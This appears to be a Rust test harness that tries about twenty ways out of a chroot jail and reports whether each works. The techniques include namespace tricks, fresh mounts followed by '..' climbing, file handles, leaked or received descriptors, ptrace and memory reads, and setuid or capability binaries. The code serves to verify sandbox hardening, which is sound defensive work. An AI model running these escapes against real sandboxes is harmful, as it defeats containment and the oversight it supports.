//! The ways out of a chroot, written as one would who wants out. Each says whether it got anywhere.
//!
//! The payload, which `rustc` compiles without any crate, and the tests share this file.

use std::ffi::{CStr, c_char, c_int, c_long, c_uint, c_void};
use std::ptr::null;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
    fn unshare(flags: c_int) -> c_int;
    fn setns(fd: c_int, kind: c_int) -> c_int;
    fn getpid() -> c_int;
    fn open(path: *const c_char, flags: c_int, ...) -> c_int;
    fn openat(fd: c_int, path: *const c_char, flags: c_int, ...) -> c_int;
    fn close(fd: c_int) -> c_int;
    fn chdir(path: *const c_char) -> c_int;
    fn fchdir(fd: c_int) -> c_int;
    fn chroot(path: *const c_char) -> c_int;
    fn mknodat(fd: c_int, path: *const c_char, mode: c_uint, device: u64) -> c_int;
    fn open_by_handle_at(mount: c_int, handle: *mut c_void, flags: c_int) -> c_int;
    fn fanotify_init(flags: c_uint, event_flags: c_uint) -> c_int;
    fn fanotify_mark(fd: c_int, flags: c_uint, mask: u64, at: c_int, path: *const c_char) -> c_int;
    fn ptrace(request: c_long, ...) -> c_long;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
    fn process_vm_readv(
        pid: c_int,
        local: *const [usize; 2],
        n: usize,
        remote: *const [usize; 2],
        m: usize,
        flags: usize,
    ) -> isize;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn fork() -> c_int;
    fn fexecve(fd: c_int, argv: *const *const c_char, envp: *const *const c_char) -> c_int;
    fn _exit(status: c_int) -> !;
}

const PIDFD_OPEN: c_long = 434;
const PIDFD_GETFD: c_long = 438;
const OPEN_TREE: c_long = 428;
const FSOPEN: c_long = 430;
const FSCONFIG: c_long = 431;
const FSMOUNT: c_long = 432;

const O_PATH: c_int = 0o10_000_000;
const AT_FDCWD: c_int = -100;
const CLONE_FS: c_int = 0x200;
const CLONE_NEWNS: c_int = 0x2_0000;
const CLONE_NEWUSER: c_int = 0x1000_0000;
const EFAULT: i32 = 14;

/// The exit status of a program that found itself with power.
pub const POWERFUL: i32 = 42;

/// What is outside, or came in from there.
pub struct Outside {
    /// A descriptor of the real root, and one that is only `O_PATH`.
    pub directory: c_int,
    pub path: c_int,
    /// A Unix socket over which a descriptor of the real root comes.
    pub socket: std::os::unix::net::UnixStream,
    /// A process of the same user, and an abstract socket that it listens on.
    pub pid: c_int,
    pub listener: Vec<u8>,
    /// The `struct file_handle` of a file on the file system that the jail is made on.
    pub handle: Vec<u8>,
    /// The payload, set-uid root; and with file capabilities.
    pub program: c_int,
    pub capable: c_int,
}

pub type Attack = fn(&Outside) -> bool;

pub const ATTACKS: &[(&str, Attack)] = &[
    ("setns", setns_to_oneself),
    ("fsopen", chroot_to_a_new_mount_and_climb),
    ("open_tree", chroot_to_a_clone_and_climb),
    ("proc", mount_proc),
    ("mknod", make_a_device),
    ("handle", open_by_handle),
    ("fanotify", watch_the_file_system),
    ("directory", through_a_directory),
    ("o_path", through_a_path),
    ("openat", open_in_a_directory),
    ("received", through_a_received_directory),
    ("ptrace", trace),
    ("vm_readv", read_memory),
    ("pidfd_getfd", take_a_descriptor),
    ("kill", signal),
    ("abstract", connect),
    ("setuid", execute_setuid),
    ("exec", execute_as_root),
    ("file-capabilities", execute_with_file_capabilities),
    ("chroot", chroot_again_and_climb),
    ("userns", new_user_namespace),
];

fn opens(path: &CStr) -> bool {
    let fd = unsafe { open(path.as_ptr(), 0) };
    fd >= 0 && unsafe { close(fd) } == 0
}

/// HAProxy's jail, left with three system calls.
fn setns_to_oneself(_: &Outside) -> bool {
    unsafe {
        unshare(CLONE_FS | CLONE_NEWNS) == 0
            && setns(syscall(PIDFD_OPEN, getpid(), 0) as c_int, CLONE_NEWNS) == 0
            && opens(c"/etc/passwd")
    }
}

/// With another root, the working directory is outside of it, and ".." leads up.
fn climb(new_root: c_int) -> bool {
    unsafe {
        let old = open(c"/".as_ptr(), O_PATH);
        if fchdir(new_root) != 0 || chroot(c".".as_ptr()) != 0 || fchdir(old) != 0 {
            return false;
        }
        for _ in 0..64 {
            chdir(c"..".as_ptr());
        }
        opens(c"etc/passwd")
    }
}

/// A mount of this file system, with all defaults.
fn mount(kind: &CStr) -> c_int {
    unsafe {
        unshare(CLONE_NEWNS);
        let fs = syscall(FSOPEN, kind.as_ptr(), 0);
        syscall(FSCONFIG, fs, 6, null::<c_char>(), null::<c_char>(), 0);
        syscall(FSMOUNT, fs, 0, 0) as c_int
    }
}

fn chroot_to_a_new_mount_and_climb(_: &Outside) -> bool {
    climb(mount(c"tmpfs"))
}

fn chroot_to_a_clone_and_climb(_: &Outside) -> bool {
    unsafe {
        unshare(CLONE_NEWNS);
        climb(syscall(OPEN_TREE, AT_FDCWD, c"/".as_ptr(), 1) as c_int)
    }
}

fn chroot_again_and_climb(_: &Outside) -> bool {
    // The directory of another mount is the only other directory that can be had: /proc's.
    climb(mount(c"proc"))
}

fn mount_proc(outside: &Outside) -> bool {
    let path = std::ffi::CString::new(format!("{}/root/etc/passwd", outside.pid)).unwrap();
    unsafe { openat(mount(c"proc"), path.as_ptr(), 0) >= 0 }
}

fn make_a_device(_: &Outside) -> bool {
    let mount = mount(c"tmpfs");
    unsafe { mknodat(mount, c"null".as_ptr(), 0o20_666, 1 << 8 | 3) == 0 && openat(mount, c"null".as_ptr(), 0) >= 0 }
}

fn open_by_handle(outside: &Outside) -> bool {
    let mut handle = outside.handle.clone();
    unsafe { open_by_handle_at(open(c"/".as_ptr(), 0), handle.as_mut_ptr().cast(), 0) >= 0 }
}

fn watch_the_file_system(_: &Outside) -> bool {
    unsafe { fanotify_mark(fanotify_init(0, 0), 0x101, 0x20, AT_FDCWD, c"/".as_ptr()) == 0 }
}

fn through_a_directory(outside: &Outside) -> bool {
    unsafe { fchdir(outside.directory) == 0 && opens(c"etc/passwd") }
}

fn through_a_path(outside: &Outside) -> bool {
    unsafe { fchdir(outside.path) == 0 && opens(c"etc/passwd") }
}

fn open_in_a_directory(outside: &Outside) -> bool {
    unsafe { openat(outside.directory, c"../etc/passwd".as_ptr(), 0) >= 0 }
}

fn through_a_received_directory(outside: &Outside) -> bool {
    match receive(&outside.socket) {
        Some(fd) => unsafe { openat(fd, c"etc/passwd".as_ptr(), 0) >= 0 },
        None => false,
    }
}

fn trace(outside: &Outside) -> bool {
    const ATTACH: c_long = 16;
    const DETACH: c_long = 17;
    unsafe {
        ptrace(ATTACH, outside.pid, 0_usize, 0_usize) == 0 && {
            waitpid(outside.pid, &mut 0, 0x4000_0000);
            ptrace(DETACH, outside.pid, 0_usize, 0_usize);
            true
        }
    }
}

/// To be refused a bad address is to be let in.
fn read_memory(outside: &Outside) -> bool {
    let mut byte = 0_u8;
    let read = unsafe { process_vm_readv(outside.pid, &[&raw mut byte as usize, 1], 1, &[16, 1], 1, 0) };
    read >= 0 || std::io::Error::last_os_error().raw_os_error() == Some(EFAULT)
}

fn take_a_descriptor(outside: &Outside) -> bool {
    unsafe { syscall(PIDFD_GETFD, syscall(PIDFD_OPEN, outside.pid, 0), 1, 0) >= 0 }
}

fn signal(outside: &Outside) -> bool {
    const SIGCONT: c_int = 18;
    unsafe { kill(outside.pid, SIGCONT) == 0 }
}

fn connect(outside: &Outside) -> bool {
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(&outside.listener).unwrap();
    std::os::unix::net::UnixStream::connect_addr(&address).is_ok()
}

fn execute_setuid(outside: &Outside) -> bool {
    is_powerful(outside.program, c"is-root")
}

fn execute_as_root(outside: &Outside) -> bool {
    is_powerful(outside.program, c"has-capabilities")
}

fn execute_with_file_capabilities(outside: &Outside) -> bool {
    is_powerful(outside.capable, c"has-capabilities")
}

fn new_user_namespace(_: &Outside) -> bool {
    unsafe { unshare(CLONE_NEWUSER) == 0 }
}

/// Whether the payload, executed now, has what it looks for.
fn is_powerful(program: c_int, look: &CStr) -> bool {
    unsafe {
        let pid = fork();
        if pid == 0 {
            fexecve(program, [c"payload".as_ptr(), look.as_ptr(), null()].as_ptr(), [null()].as_ptr());
            _exit(1);
        }
        let mut status = 0;
        waitpid(pid, &mut status, 0) == pid && status == POWERFUL << 8
    }
}

#[repr(C)]
struct Message {
    name: *const c_void,
    name_length: c_uint,
    parts: *const [usize; 2],
    count: usize,
    control: *mut c_void,
    control_length: usize,
    flags: c_int,
}

/// The descriptor that comes over the socket.
fn receive(socket: &std::os::unix::net::UnixStream) -> Option<c_int> {
    use std::os::fd::AsRawFd;
    unsafe extern "C" {
        fn recvmsg(fd: c_int, message: *mut Message, flags: c_int) -> isize;
    }
    let mut byte = 0_u8;
    let mut control = [0_u64; 8];
    let part = [&raw mut byte as usize, 1];
    let mut message = Message {
        name: null(),
        name_length: 0,
        parts: &raw const part,
        count: 1,
        control: control.as_mut_ptr().cast(),
        control_length: size_of_val(&control),
        flags: 0,
    };
    // The header is a length and two ints; a descriptor follows.
    let header = size_of::<usize>() + 8;
    let received = unsafe { recvmsg(socket.as_raw_fd(), &mut message, 0) };
    (received == 1 && message.control_length > header)
        .then(|| unsafe { control.as_ptr().cast::<u8>().add(header).cast::<c_int>().read_unaligned() })
}
